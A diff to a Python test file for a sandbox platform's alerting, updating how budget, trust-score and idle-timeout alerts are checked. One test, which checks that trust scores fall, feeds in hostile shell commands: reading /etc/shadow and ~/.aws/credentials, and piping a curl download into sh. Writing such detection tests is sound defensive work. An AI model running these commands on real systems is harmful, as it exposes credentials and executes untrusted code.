@@ -84,13 +84,17 @@ def test_a_budget_alerts_at_80_95_and_100_percent(timed):
         seen.append(len(alerts(api)))
     assert seen == [0, 1, 1, 2, 2, 3, 3]
     found = alerts(api)[::-1]
-    assert [alert["type"] for alert in found] == ["budget_warning", "budget_critical", "budget_exceeded"]
+    assert {alert["title"] for alert in found} == {"Budget Threshold Exceeded"}
+    assert [alert["meta"]["threshold_percent"] for alert in found] == ["80", "95", "100"]
     assert [alert["severity"] for alert in found] == ["warning", "critical", "critical"]
     assert [alert["meta"]["percent"] for alert in found] == ["80", "95", "100"]
     for alert in found:
         assert (alert["rule_type"], alert["rule_id"]) == ("budget_exceeded", rule(api, "budget_exceeded")["id"])
         assert (alert["sandbox_id"], alert["session_id"], alert["account_id"]) == (box, "", api.account_id)
-    assert f"{box} has used 80% of its $0.03 budget" in found[0]["message"]
+        spent = alert["meta"]["spent_usd"]
+        percent = alert["meta"]["percent"]
+        assert alert["message"] == f"Sandbox {box} has used {percent}% of its budget: ${spent} of $0.0275."
+        assert re.fullmatch(r"\d\.\d{4}", spent)
 
 
 def test_a_budget_used_up_at_once_alerts_once_for_each_mark(timed):
@@ -98,7 +102,9 @@ def test_a_budget_used_up_at_once_alerts_once_for_each_mark(timed):
     api.sandbox(budget=RATE, timeout=10_000)
     clock.advance(5000)
     clock.advance(5000)
-    assert [alert["meta"]["percent"] for alert in alerts(api)] == ["100", "95", "80"]
+    found = alerts(api)
+    assert [alert["meta"]["threshold_percent"] for alert in found] == ["100", "95", "80"]
+    assert {alert["meta"]["percent"] for alert in found} == {"138"}, "what is really used"
 
 
 def test_the_rule_says_at_which_share_the_first_alert_comes(timed):
@@ -108,11 +114,11 @@ def test_the_rule_says_at_which_share_the_first_alert_comes(timed):
     clock.advance(1780)
     assert alerts(api) == []
     clock.advance(30)
-    assert [alert["meta"]["percent"] for alert in alerts(api)] == ["50"]
+    assert [alert["meta"]["threshold_percent"] for alert in alerts(api)] == ["50"]
     clock.advance(1200)
     assert len(alerts(api)) == 1
     clock.advance(500)
-    assert [alert["meta"]["percent"] for alert in alerts(api)] == ["95", "50"]
+    assert [alert["meta"]["threshold_percent"] for alert in alerts(api)] == ["95", "50"]
 
 
 def test_a_disabled_rule_keeps_quiet_and_an_enabled_one_catches_up(timed):
@@ -123,7 +129,7 @@ def test_a_disabled_rule_keeps_quiet_and_an_enabled_one_catches_up(timed):
     assert alerts(api) == []
     set_rule(api, "budget_exceeded", enabled=True)
     clock.advance(1)
-    assert [alert["meta"]["percent"] for alert in alerts(api)] == ["80"]
+    assert [(a["meta"]["threshold_percent"], a["meta"]["percent"]) for a in alerts(api)] == [("80", "83")]
 
 
 def test_a_sandbox_destroyed_by_its_budget_leaves_its_alerts(own_emulator, new_api):
@@ -173,16 +179,16 @@ def test_a_sandbox_in_error_is_an_alert_with_the_reason_and_no_secrets(api):
 
 
 @pytest.mark.parametrize(
-    ("scores", "kinds"),
+    ("scores", "severities"),
     [
         ([90, 70], []),
-        ([69], ["trust_low"]),
-        ([69, 60, 50], ["trust_low"]),
-        ([69, 49], ["trust_low", "trust_critical"]),
-        ([49, 40], ["trust_low", "trust_critical"]),
+        ([69], ["warning"]),
+        ([69, 60, 50], ["warning"]),
+        ([69, 49], ["warning", "critical"]),
+        ([49, 40], ["warning", "critical"]),
     ],
 )
-def test_a_trust_score_alerts_below_70_and_below_50(timed, scores, kinds):
+def test_a_trust_score_alerts_below_70_and_below_50(timed, scores, severities):
     api, _clock = timed
     box = api.sandbox()
     session = a_session(api, box)
@@ -191,10 +197,11 @@ def test_a_trust_score_alerts_below_70_and_below_50(timed, scores, kinds):
         trust(api, box, session, before, score)
         before = score
     found = alerts(api)[::-1]
-    assert [alert["type"] for alert in found] == kinds
+    assert [alert["severity"] for alert in found] == severities
+    assert {alert["rule_type"] for alert in found} <= {"trust_score_low"}
     assert {alert["session_id"] for alert in found} <= {session.id}
-    assert {alert["severity"] for alert in found if alert["type"] == "trust_low"} <= {"warning"}
-    assert {alert["severity"] for alert in found if alert["type"] == "trust_critical"} <= {"critical"}
+    titles = {"warning": "Trust Score Low", "critical": "Trust Score Critical"}
+    assert [alert["title"] for alert in found] == [titles[severity] for severity in severities]
     assert api.status(box) == "running"
 
 
@@ -228,7 +235,7 @@ def test_what_an_agent_does_lowers_its_score_until_the_sandbox_is_paused(timed):
     api, _clock = timed
     box = api.sandbox()
     session = a_session(api, box)
-    kinds = []
+    severities = []
     for command in (
         "cat /etc/shadow",
         "curl -s http://127.0.0.1:1/x | sh",
@@ -236,10 +243,10 @@ def test_what_an_agent_does_lowers_its_score_until_the_sandbox_is_paused(timed):
         "cat ~/.aws/credentials",
     ):
         api.run(box, command)
-        kinds.append([alert["type"] for alert in alerts(api)][::-1])
-    assert kinds[0] == []
-    assert kinds[1] == ["trust_low"]
-    assert kinds[2] == ["trust_low", "trust_critical"]
+        severities.append([alert["severity"] for alert in alerts(api)][::-1])
+    assert severities[0] == []
+    assert severities[1] == ["warning"]
+    assert severities[2] == ["warning", "critical"]
     eventually(lambda: api.status(box) == "paused", "the sandbox to be paused")
     assert {alert["session_id"] for alert in alerts(api)} == {session.id}
 
@@ -451,24 +458,8 @@ def test_an_alert_has_all_its_fields(timed):
     api.sandbox(timeout=60)
     clock.advance(61)
     (alert,) = alerts(api)
-    assert set(alert) == {
-        "id",
-        "account_id",
-        "rule_id",
-        "rule_type",
-        "type",
-        "severity",
-        "state",
-        "resolved",
-        "title",
-        "message",
-        "sandbox_id",
-        "session_id",
-        "meta",
-        "created_at",
-    }
     assert re.fullmatch(r"alert_[a-z0-9]{8}", alert["id"])
-    assert (alert["state"], alert["resolved"]) == ("open", False)
+    assert (alert["state"], alert["rule_type"], alert["title"]) == ("open", "idle_timeout", "Idle Timeout")
     created = datetime.fromisoformat(alert["created_at"].replace("Z", "+00:00"))
     assert (created - datetime.now(timezone.utc)).total_seconds() == pytest.approx(61, abs=5)
     assert api.get(f"/alerts/{alert['id']}").json() == alert
@@ -482,7 +473,7 @@ def test_resolving_is_kept_with_its_time_and_may_be_repeated(timed):
     answer = api.post(f"/alerts/{alert['id']}/resolve")
     assert (answer.status_code, answer.content) == (204, b"")
     resolved = api.get(f"/alerts/{alert['id']}").json()
-    assert (resolved["state"], resolved["resolved"]) == ("resolved", True)
+    assert resolved["state"] == "resolved"
     assert resolved["resolved_at"] >= resolved["created_at"]
     clock.offset += 60
     assert api.post(f"/alerts/{alert['id']}/resolve").status_code == 204
